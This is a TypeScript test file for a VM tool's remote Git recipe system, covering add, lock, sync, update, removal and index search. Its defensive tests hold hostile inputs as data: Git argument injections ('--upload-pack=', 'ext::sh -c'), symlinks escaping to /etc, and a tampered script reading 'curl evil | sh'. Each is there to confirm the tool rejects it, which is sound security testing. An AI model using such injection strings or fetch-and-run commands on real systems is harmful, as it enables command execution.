import { execFileSync } from "node:child_process"
import {
  existsSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync
} from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { describe, expect, it } from "@effect/vitest"
import { Duration, Effect, Exit, Layer, TestClock } from "effect"
import { onTestFinished } from "vitest"
import { addRecipe, listRecipeEntries, planRecipes, updateVm } from "../../../src/operations/index.js"
import { toErrorInfo } from "../../../src/errors.js"
import { Git, makeGit } from "../../../src/recipes/remote/git.js"
import { makeRemoteRecipes, RemoteRecipes, splitUrlRef } from "../../../src/recipes/remote/service.js"
import { runOperation } from "../../../src/operations/run.js"
import {
  commitFile as commitTo,
  gitIn as git,
  makeIndexRepo as indexRepo,
  makeRecipeRepo as recipeRepo,
  testLayer,
  writeIndexFile as writeIndex
} from "../../../src/testing/index.js"
import { VmStore } from "../../../src/vm/store.js"
import { McpCaller } from "../../../src/context/caller.js"
import { callerLayer } from "../../../src/context/access-policy.js"

const tempDir = (prefix = "stoat-remote-") => {
  const dir = mkdtempSync(join(tmpdir(), prefix))
  onTestFinished(() => rmSync(dir, { recursive: true, force: true }))
  return dir
}

interface World {
  readonly base: string
  readonly home: string
  readonly project: string
  readonly hello: string
  readonly index: string
}

const world = (extra: Record<string, (base: string) => string> = {}): World => {
  const base = tempDir()
  const hello = recipeRepo(base, "hello")
  const sources: Record<string, string> = { hello }
  for (const [name, make] of Object.entries(extra)) sources[name] = make(base)
  const index = indexRepo(base, sources)
  const home = join(base, "home")
  const project = join(base, "project")
  mkdirSync(home)
  mkdirSync(project)
  writeFileSync(join(project, "stoat.toml"), '# demo project\nschema = 1\n\n[project]\nname = "demo" # kept\n')
  return { base, home, project, hello, index }
}

const layerOf = (w: World, options: { project?: boolean } = {}) =>
  testLayer({ root: w.home, index: w.index, ...(options.project === false ? {} : { projectDir: w.project }) })

const run = <A, E>(w: World, effect: Effect.Effect<A, E, any>, options: { project?: boolean } = {}) =>
  Effect.runPromise(Effect.scoped(Effect.provide(effect, layerOf(w, options))) as Effect.Effect<A, E, never>)
const fail = async <A, E>(w: World, effect: Effect.Effect<A, E, any>, options: { project?: boolean } = {}) => {
  const exit = await Effect.runPromiseExit(
    Effect.scoped(Effect.provide(effect, layerOf(w, options))) as Effect.Effect<A, E, never>
  )
  if (Exit.isSuccess(exit)) throw new Error(`succeeded: ${JSON.stringify(exit.value)}`)
  return toErrorInfo(exit.cause)
}
const remote = RemoteRecipes
/** A stopped VM that lists the recipe "hello". */
const VM_TOML = 'name = "box"\nos = "debian"\nmode = "disk"\nsshport = 2299\nrecipes = ["hello"]\n'
const cli = { requestId: "t" }
const lockOf = (dir: string) => readFileSync(join(dir, "stoat.lock"), "utf8")
const checkout = (w: World, name: string) => join(w.project, ".stoat", "recipes", name)

describe("adding remote recipes", () => {
  it("adds by index name in project scope: [recipes] declared, stoat.lock pinned, checkout placed, .stoat/ ignored, shown as project in recipe list", async () => {
    const w = world()
    const head = git(w.hello, "rev-parse", "HEAD")
    const added = await run(
      w,
      Effect.flatMap(remote, (r) => r.add({ name: "hello", global: false, force: false }))
    )
    expect(added).toEqual({ name: "hello", source: w.hello, ref: "main", commit: head, scope: "project" })
    expect(readFileSync(join(w.project, "stoat.toml"), "utf8")).toBe(
      '# demo project\nschema = 1\n\n[project]\nname = "demo" # kept\n\n[recipes]\nhello = "main"\n'
    )
    expect(lockOf(w.project)).toContain(
      `[recipes.hello]\nsource = ${JSON.stringify(w.hello)}\nref = "main"\ncommit = "${head}"\nadded = "`
    )
    expect(git(checkout(w, "hello"), "rev-parse", "HEAD")).toBe(head)
    expect(readFileSync(join(w.project, ".gitignore"), "utf8")).toBe(".stoat/\n")
    const listed = await run(w, runOperation(listRecipeEntries, {}, cli))
    expect(listed.recipes.find((r) => r.name === "hello")).toEqual({
      name: "hello",
      description: "the hello recipe",
      scope: "project",
      source: w.hello,
      ref: "main",
      commit: head.slice(0, 7)
    })
    expect(listed.roots[0]).toEqual({ path: join(w.project, ".stoat", "recipes"), scope: "project" })
  })

  it("adds name@ref pinned to the tag, and globally outside a project (owned by <root>/stoat.lock, scope global)", async () => {
    const w = world()
    const v1 = git(w.hello, "rev-parse", "v1")
    commitTo(w.hello, "run.sh", "echo hello v2\n")
    const added = await run(
      w,
      Effect.flatMap(remote, (r) => r.add({ name: "hello@v1", global: false, force: false })),
      { project: false }
    )
    expect(added).toMatchObject({ name: "hello", ref: "v1", commit: v1, scope: "global" })
    expect(lockOf(w.home)).toContain(`commit = "${v1}"`)
    expect(readFileSync(join(w.home, "recipes", "hello", "run.sh"), "utf8")).toBe("echo hello v1\n")
    const listed = await run(w, runOperation(listRecipeEntries, {}, cli), { project: false })
    expect(listed.recipes.find((r) => r.name === "hello")).toMatchObject({
      scope: "global",
      ref: "v1",
      commit: v1.slice(0, 7)
    })
  })

  it("adds from a Git URL on the CLI path, named by its manifest and declared with its source", async () => {
    const w = world()
    const other = recipeRepo(w.base, "mytool")
    const added = await run(w, runOperation(addRecipe, { source: `${other}@v1` }, cli))
    expect(added).toMatchObject({ name: "mytool", source: other, ref: "v1", scope: "project" })
    expect(added.recipes.map((r) => r.name)).toContain("mytool")
    expect(readFileSync(join(w.project, "stoat.toml"), "utf8")).toContain(
      `mytool = { source = ${JSON.stringify(other)}, ref = "v1" }`
    )
  })

  it("a preview resolves and validates a URL but writes nothing", async () => {
    const w = world()
    const previewed = await run(w, runOperation(addRecipe, { source: w.hello, preview: true }, cli))
    expect(previewed).toMatchObject({
      name: "hello",
      source: w.hello,
      ref: "main",
      commit: git(w.hello, "rev-parse", "HEAD"),
      scope: "project"
    })
    expect(existsSync(join(w.project, "stoat.lock"))).toBe(false)
    expect(readFileSync(join(w.project, "stoat.toml"), "utf8")).not.toContain("[recipes]")
    expect(execFileSync("ls", ["-A", join(w.project, ".stoat", "recipes")], { encoding: "utf8" })).toBe("")
  })

  it("an add whose stoat.toml write fails leaves no pin and no checkout behind", async () => {
    const w = world()
    const toml = join(w.project, "stoat.toml")
    const before = readFileSync(toml, "utf8")
    // The lock beside it can be written; stoat.toml cannot be replaced (even by root).
    execFileSync("chattr", ["+i", toml])
    onTestFinished(() => {
      execFileSync("chattr", ["-i", toml])
    })
    const error = await fail(w, runOperation(addRecipe, { name: "hello" }, cli))
    expect(error.code).not.toBe("internal")
    expect(existsSync(join(w.project, "stoat.lock"))).toBe(false)
    expect(existsSync(checkout(w, "hello"))).toBe(false)
    expect(readFileSync(toml, "utf8")).toBe(before)
  })

  it("refuses a Git URL on the MCP path: add_recipe takes index names only", async () => {
    const w = world()
    const error = await fail(
      w,
      Effect.provide(runOperation(addRecipe, { name: `https://example.org/x.git` }, cli), callerLayer(McpCaller))
    )
    expect(error.code).toBe("usage")
    expect(error.message).toContain("Git URLs are refused")
    expect(existsSync(join(w.project, "stoat.lock"))).toBe(false)
  })

  it("refuses a recipe whose manifest name differs from its index name, and writes nothing", async () => {
    const w = world({ renamed: (base) => recipeRepo(base, "renamed", { manifestName: "other" }) })
    const error = await fail(
      w,
      Effect.flatMap(remote, (r) => r.add({ name: "renamed", global: false, force: false }))
    )
    expect(error.code).toBe("invalid_spec")
    expect(error.message).toContain('must equal the folder name "renamed"')
    expect(existsSync(join(w.project, "stoat.lock"))).toBe(false)
    expect(readFileSync(join(w.project, "stoat.toml"), "utf8")).not.toContain("[recipes]")
    expect(
      existsSync(join(w.project, ".stoat", "recipes"))
        ? execFileSync("ls", ["-A", join(w.project, ".stoat", "recipes")], { encoding: "utf8" })
        : ""
    ).toBe("")
  })

  it("refuses a script that leads outside the tree and a symlink that points outside it", async () => {
    const w = world({
      escape: (base) => {
        const dir = recipeRepo(base, "escape")
        rmSync(join(dir, "run.sh"))
        symlinkSync("/etc/hostname", join(dir, "run.sh"))
        git(dir, "add", "-A")
        git(dir, "commit", "-qm", "escape")
        return dir
      },
      sneaky: (base) => {
        const dir = recipeRepo(base, "sneaky")
        mkdirSync(join(dir, "lib"))
        symlinkSync("../../../../etc", join(dir, "lib", "etc"))
        git(dir, "add", "-A")
        git(dir, "commit", "-qm", "sneaky")
        return dir
      }
    })
    const script = await fail(
      w,
      Effect.flatMap(remote, (r) => r.add({ name: "escape", global: false, force: false }))
    )
    expect(script.code).toBe("invalid_spec")
    expect(script.message).toContain("run.sh")
    const link = await fail(
      w,
      Effect.flatMap(remote, (r) => r.add({ name: "sneaky", global: false, force: false }))
    )
    expect(link).toMatchObject({ code: "invalid_spec" })
    expect(link.message).toContain("lib/etc is a symlink leading outside the recipe")
    expect(existsSync(join(w.project, "stoat.lock"))).toBe(false)
  })

  it("refuses a name a bundled, local or same-scope remote recipe holds, unless forced", async () => {
    const w = world({ devtools: (base) => recipeRepo(base, "devtools") })
    const bundled = await fail(
      w,
      Effect.flatMap(remote, (r) => r.add({ name: "devtools", global: false, force: false }))
    )
    expect(bundled).toMatchObject({ code: "name_taken", subject: "devtools" })
    const forced = await run(
      w,
      Effect.flatMap(remote, (r) => r.add({ name: "devtools", global: false, force: true }))
    )
    expect(forced.scope).toBe("project")
    await run(
      w,
      Effect.flatMap(remote, (r) => r.add({ name: "hello", global: false, force: false }))
    )
    const again = await fail(
      w,
      Effect.flatMap(remote, (r) => r.add({ name: "hello", global: false, force: false }))
    )
    expect(again.code).toBe("name_taken")
    expect(again.message).toContain("already added in project scope")
    mkdirSync(join(w.home, "recipes", "hello"), { recursive: true })
    const local = await fail(
      w,
      Effect.flatMap(remote, (r) => r.add({ name: "hello", global: true, force: false })),
      { project: false }
    )
    expect(local.code).toBe("name_taken")
    expect(local.message).toContain("local recipe")
  })

  it("a forced global recipe over a bundled name stays a clean checkout: bundled files are not written into it", async () => {
    const w = world({ devtools: (base) => recipeRepo(base, "devtools") })
    await run(w, runOperation(listRecipeEntries, {}, cli), { project: false })
    expect(existsSync(join(w.home, "recipes", "devtools", "install.sh"))).toBe(true)
    await run(
      w,
      Effect.flatMap(remote, (r) => r.add({ name: "devtools", global: true, force: true })),
      { project: false }
    )
    const listed = await run(w, runOperation(listRecipeEntries, {}, cli), { project: false })
    expect(listed.recipes.find((r) => r.name === "devtools")).toMatchObject({
      scope: "global",
      description: "the devtools recipe"
    })
    expect(git(join(w.home, "recipes", "devtools"), "status", "--porcelain")).toBe("")
    expect(
      (
        await run(
          w,
          Effect.flatMap(remote, (r) => r.sync(true)),
          { project: false }
        )
      ).map((pin) => pin.name)
    ).toEqual(["devtools"])
  })

  it("refuses hostile names, refs and sources before running git", async () => {
    const w = world()
    for (const request of [
      { source: "--upload-pack=touch /tmp/stoat-pwned" },
      { source: "ext::sh -c touch% /tmp/stoat-pwned" },
      { source: "/srv/x\u0000y" },
      { name: "hello@v1..v2" },
      { name: "hello@-rf" },
      { name: "Hello" }
    ]) {
      const error = await fail(
        w,
        Effect.flatMap(remote, (r) => r.add({ ...request, global: false, force: false }))
      )
      expect(["invalid_spec", "usage"], JSON.stringify(request)).toContain(error.code)
    }
    expect(existsSync("/tmp/stoat-pwned")).toBe(false)
    expect(
      await fail(
        w,
        Effect.flatMap(remote, (r) => r.add({ name: "nosuch", global: false, force: false }))
      )
    ).toMatchObject({ code: "not_found", subject: "nosuch" })
    expect(
      await fail(
        w,
        Effect.flatMap(remote, (r) => r.add({ name: "hello@v9", global: false, force: false }))
      )
    ).toMatchObject({ code: "not_found", subject: "v9" })
  })

  it("two adds in parallel on one project both land in stoat.lock and stoat.toml", async () => {
    const w = world({ second: (base) => recipeRepo(base, "second") })
    await run(
      w,
      Effect.flatMap(remote, (r) =>
        Effect.all(
          [
            r.add({ name: "hello", global: false, force: false }),
            r.add({ name: "second", global: false, force: false })
          ],
          { concurrency: 2 }
        )
      )
    )
    expect(lockOf(w.project)).toContain("[recipes.hello]")
    expect(lockOf(w.project)).toContain("[recipes.second]")
    expect(readFileSync(join(w.project, "stoat.toml"), "utf8")).toMatch(
      /hello = "main"\nsecond = "main"|second = "main"\nhello = "main"/
    )
  })

  it("splits URL@ref without taking the user part of scp-style and https URLs for a ref", () => {
    expect(splitUrlRef("git@github.com:o/r.git")).toEqual(["git@github.com:o/r.git", undefined])
    expect(splitUrlRef("git@github.com:o/r.git@v1")).toEqual(["git@github.com:o/r.git", "v1"])
    expect(splitUrlRef("https://u@example.org/r.git")).toEqual(["https://u@example.org/r.git", undefined])
    expect(splitUrlRef("https://example.org/r.git@main")).toEqual(["https://example.org/r.git", "main"])
    expect(splitUrlRef("/srv/r@v2")).toEqual(["/srv/r", "v2"])
  })
})

describe("lock, sync, update, rm", () => {
  const add = (r: typeof RemoteRecipes.Service) => r.add({ name: "hello", global: false, force: false })

  it("lock resolves a changed declaration (no checkout change) and drops undeclared pins; sync then moves the checkout", async () => {
    const w = world()
    const v1 = git(w.hello, "rev-parse", "v1")
    await run(
      w,
      Effect.flatMap(remote, (r) => r.add({ name: "hello@v1", global: false, force: false }))
    )
    const v2 = commitTo(w.hello, "run.sh", "echo hello v2\n")
    git(w.hello, "tag", "v2")
    const toml = join(w.project, "stoat.toml")
    writeFileSync(toml, readFileSync(toml, "utf8").replace('hello = "v1"', 'hello = "v2"'))
    writeFileSync(
      join(w.project, "stoat.lock"),
      `${lockOf(w.project)}\n[recipes.gone]\nsource = "/srv/gone"\nref = "main"\ncommit = "${v1}"\nadded = "2026-01-01T00:00:00Z"\n`
    )
    const locked = await run(
      w,
      Effect.flatMap(remote, (r) => r.lock(false))
    )
    expect(locked).toEqual([{ name: "hello", source: w.hello, ref: "v2", commit: v2, scope: "project" }])
    expect(lockOf(w.project)).not.toContain("gone")
    expect(git(checkout(w, "hello"), "rev-parse", "HEAD")).toBe(v1)
    mkdirSync(join(w.project, ".stoat", "recipes", "stray"))
    await run(
      w,
      Effect.flatMap(remote, (r) => r.sync(false))
    )
    expect(git(checkout(w, "hello"), "rev-parse", "HEAD")).toBe(v2)
    expect(existsSync(join(w.project, ".stoat", "recipes", "stray"))).toBe(false)
  })

  it("lock keeps a pin whose declaration did not change, even when the branch moved", async () => {
    const w = world()
    const first = (await run(w, Effect.flatMap(remote, add))).commit
    commitTo(w.hello, "run.sh", "echo moved\n")
    expect(
      (
        await run(
          w,
          Effect.flatMap(remote, (r) => r.lock(false))
        )
      )[0]!.commit
    ).toBe(first)
  })

  it("update re-resolves the stored ref to the new commit and checks it out", async () => {
    const w = world()
    const { commit } = await run(w, Effect.flatMap(remote, add))
    const placed = statSync(checkout(w, "hello")).ino
    expect(
      (
        await run(
          w,
          Effect.flatMap(remote, (r) => r.update(["hello"], false))
        )
      )[0]!.commit
    ).toBe(commit)
    expect(statSync(checkout(w, "hello")).ino).toBe(placed)
    const next = commitTo(w.hello, "run.sh", "echo hello v2\n")
    const updated = await run(
      w,
      Effect.flatMap(remote, (r) => r.update([], false))
    )
    expect(updated).toEqual([{ name: "hello", source: w.hello, ref: "main", commit: next, scope: "project" }])
    expect(lockOf(w.project)).toContain(`commit = "${next}"`)
    expect(readFileSync(join(checkout(w, "hello"), "run.sh"), "utf8")).toBe("echo hello v2\n")
    expect(
      await fail(
        w,
        Effect.flatMap(remote, (r) => r.update(["helo"], false))
      )
    ).toMatchObject({ code: "not_found", subject: "helo" })
  })

  it("rm removes the declaration, the pin and the checkout; a recipe a VM lists is in_use unless forced", async () => {
    const w = world()
    await run(w, Effect.flatMap(remote, add))
    await run(
      w,
      Effect.flatMap(remote, (r) => r.add({ name: "hello", global: true, force: false })),
      { project: false }
    )
    mkdirSync(join(w.home, "box"))
    writeFileSync(join(w.home, "box", "vm.toml"), VM_TOML)
    const listed = await run(
      w,
      Effect.flatMap(VmStore, (store) => store.list)
    )
    expect(listed.map((vm) => (vm.kind === "ok" ? vm.config.recipes : vm.reason))).toEqual([["hello"]])
    expect(
      await fail(
        w,
        Effect.flatMap(remote, (r) => r.remove("hello", { global: false, force: false }))
      )
    ).toMatchObject({ code: "in_use", subject: "hello" })
    expect(
      await run(
        w,
        Effect.flatMap(remote, (r) => r.remove("hello", { global: false, force: true }))
      )
    ).toEqual({ name: "hello", scope: "project" })
    expect(readFileSync(join(w.project, "stoat.toml"), "utf8")).toBe(
      '# demo project\nschema = 1\n\n[project]\nname = "demo" # kept\n\n[recipes]\n'
    )
    expect(lockOf(w.project)).not.toContain("hello")
    expect(existsSync(checkout(w, "hello"))).toBe(false)
    // The global pin of the same name is another scope's and stays.
    expect(lockOf(w.home)).toContain("[recipes.hello]")
    expect(
      await fail(
        w,
        Effect.flatMap(remote, (r) => r.remove("hello", { global: false, force: true }))
      )
    ).toMatchObject({ code: "not_found" })
  })
})

describe("apply step 2: declaration, lock and checkout agree", () => {
  const addHello = Effect.flatMap(remote, (r) => r.add({ name: "hello", global: false, force: false }))
  const ensure = Effect.flatMap(remote, (r) => r.ensureProject(["hello"]))

  it("repairs a missing checkout and a stale clean one from the lock", async () => {
    const w = world()
    const { commit } = await run(w, addHello)
    rmSync(checkout(w, "hello"), { recursive: true, force: true })
    await run(w, ensure)
    expect(git(checkout(w, "hello"), "rev-parse", "HEAD")).toBe(commit)
    commitTo(w.hello, "run.sh", "echo newer\n")
    git(checkout(w, "hello"), "fetch", "-q", "origin")
    git(checkout(w, "hello"), "checkout", "-q", "--detach", "origin/main")
    expect(git(checkout(w, "hello"), "rev-parse", "HEAD")).not.toBe(commit)
    await run(w, ensure)
    expect(git(checkout(w, "hello"), "rev-parse", "HEAD")).toBe(commit)
  })

  it("refuses a tampered (dirty) checkout, edited or with a new file, in sync and before apply", async () => {
    const w = world()
    await run(w, addHello)
    writeFileSync(join(checkout(w, "hello"), "run.sh"), "curl evil | sh\n")
    const error = await fail(w, ensure)
    expect(error).toMatchObject({ code: "invalid_spec", subject: checkout(w, "hello") })
    expect(error.message).toContain("tampered")
    expect(
      await fail(
        w,
        Effect.flatMap(remote, (r) => r.sync(false))
      )
    ).toMatchObject({ code: "invalid_spec" })
    expect(readFileSync(join(checkout(w, "hello"), "run.sh"), "utf8")).toBe("curl evil | sh\n")
    git(checkout(w, "hello"), "checkout", "--", "run.sh")
    writeFileSync(join(checkout(w, "hello"), "extra.sh"), "echo planted\n")
    expect((await fail(w, ensure)).code).toBe("invalid_spec")
  })

  it("refuses a stale declaration with lock_out_of_date advising recipe.lock", async () => {
    const w = world()
    await run(w, addHello)
    const toml = join(w.project, "stoat.toml")
    writeFileSync(toml, readFileSync(toml, "utf8").replace('hello = "main"', 'hello = "v1"'))
    const error = await fail(w, ensure)
    expect(error).toMatchObject({ code: "lock_out_of_date", subject: "hello" })
    expect(error.message).toContain("; pin it with recipe.lock")
    writeFileSync(toml, `${readFileSync(toml, "utf8")}fresh = "main"\n`)
    expect(
      await fail(
        w,
        Effect.flatMap(remote, (r) => r.ensureProject(["fresh"]))
      )
    ).toMatchObject({ code: "lock_out_of_date", subject: "fresh" })
  })

  it("update --recipes in a project places a missing checkout first (a fresh clone of the project), so the name is known", async () => {
    const w = world()
    const { commit } = await run(w, addHello)
    rmSync(join(w.project, ".stoat"), { recursive: true, force: true })
    mkdirSync(join(w.home, "box"))
    writeFileSync(join(w.home, "box", "vm.toml"), VM_TOML.replace('recipes = ["hello"]', "recipes = []"))
    const updated = await run(w, runOperation(updateVm, { vm: "box", recipes: ["hello"] }, cli))
    expect(updated.vm.recipes).toEqual(["hello"])
    expect(git(checkout(w, "hello"), "rev-parse", "HEAD")).toBe(commit)
  })

  it("plan_recipes on a VM runs the check: a stale declaration fails the plan", async () => {
    const w = world()
    await run(w, addHello)
    mkdirSync(join(w.home, "box"))
    writeFileSync(join(w.home, "box", "vm.toml"), VM_TOML)
    const planned = await run(w, runOperation(planRecipes, { vm: "box" }, cli))
    expect(planned.plan.map((step) => step.name)).toEqual(["hello"])
    const toml = join(w.project, "stoat.toml")
    writeFileSync(toml, readFileSync(toml, "utf8").replace('hello = "main"', 'hello = "v1"'))
    expect((await fail(w, runOperation(planRecipes, { vm: "box" }, cli))).code).toBe("lock_out_of_date")
  })
})

describe("git required", () => {
  it("answers git_required when PATH has no git, from the port and from search", async () => {
    const w = world()
    const empty = tempDir("stoat-nogit-")
    const noGit = makeGit({ env: { PATH: empty } })
    const direct = await Effect.runPromiseExit(noGit.run(["--version"]))
    expect(Exit.isFailure(direct) && toErrorInfo(direct.cause)).toMatchObject({ code: "git_required" })
    const layer = Layer.provide(
      Layer.effect(RemoteRecipes, makeRemoteRecipes(w.index)),
      Layer.merge(Layer.succeed(Git, noGit), testLayer({ root: w.home }))
    )
    const exit = await Effect.runPromiseExit(
      Effect.scoped(
        Effect.provide(
          Effect.flatMap(RemoteRecipes, (r) => r.search([], false)),
          layer
        )
      )
    )
    expect(Exit.isFailure(exit) && toErrorInfo(exit.cause)).toMatchObject({ code: "git_required" })
  })
})

describe("the index", () => {
  it.effect("reuses its clone for 24 hours and fetches it again after (or with refresh)", () =>
    Effect.gen(function* () {
      const w = world()
      const search = (refresh = false) =>
        Effect.map(
          Effect.flatMap(RemoteRecipes, (r) => r.search([], refresh)),
          (entries) => entries.map((e) => e.name)
        )
      const layer = testLayer({ root: w.home, index: w.index })
      const names = (refresh?: boolean) => Effect.scoped(Effect.provide(search(refresh), layer))
      expect(yield* names()).toEqual(["hello"])
      writeIndex(w.index, { hello: w.hello, extra: w.hello })
      yield* TestClock.adjust(Duration.hours(23))
      expect(yield* names()).toEqual(["hello"])
      yield* TestClock.adjust(Duration.hours(2))
      expect(yield* names()).toEqual(["extra", "hello"])
      writeIndex(w.index, { hello: w.hello })
      expect(yield* names()).toEqual(["extra", "hello"])
      expect(yield* names(true)).toEqual(["hello"])
      expect(existsSync(join(w.home, "index", "index.toml"))).toBe(true)
      expect(lstatSync(join(w.home, "index")).isDirectory()).toBe(true)
    })
  )

  it("reads a plain folder holding index.toml directly, filters by terms, and names a bad index by file and key", async () => {
    const w = world()
    const folder = tempDir("stoat-index-dir-")
    writeFileSync(
      join(folder, "index.toml"),
      `schema = 1\n[recipes.caddy]\nsource = "/srv/caddy"\ndescription = "Web server with automatic HTTPS"\n[recipes.redis]\nsource = "/srv/redis"\ndescription = "key-value store"\n`
    )
    const layer = testLayer({ root: w.home, index: folder })
    const search = (terms: string[]) =>
      Effect.runPromise(
        Effect.scoped(
          Effect.provide(
            Effect.flatMap(RemoteRecipes, (r) => r.search(terms, false)),
            layer
          )
        )
      )
    expect((await search(["web https"])).map((e) => e.name)).toEqual(["caddy"])
    expect((await search([])).map((e) => e.name)).toEqual(["caddy", "redis"])
    expect(existsSync(join(w.home, "index"))).toBe(false)
    writeFileSync(join(folder, "index.toml"), `schema = 1\n[recipes.caddy]\ndescription = "no source"\n`)
    const exit = await Effect.runPromiseExit(
      Effect.scoped(
        Effect.provide(
          Effect.flatMap(RemoteRecipes, (r) => r.search([], false)),
          layer
        )
      )
    )
    expect(Exit.isFailure(exit) && toErrorInfo(exit.cause)).toMatchObject({
      code: "invalid_spec",
      subject: `${join(folder, "index.toml")}:recipes.caddy.source`
    })
  })

  it("an index that cannot be fetched is not_found naming it", async () => {
    const w = world()
    const layer = testLayer({ root: w.home, index: join(w.base, "nowhere") })
    const exit = await Effect.runPromiseExit(
      Effect.scoped(
        Effect.provide(
          Effect.flatMap(RemoteRecipes, (r) => r.search([], false)),
          layer
        )
      )
    )
    expect(Exit.isFailure(exit) && toErrorInfo(exit.cause)).toMatchObject({
      code: "not_found",
      subject: join(w.base, "nowhere")
    })
  })
})
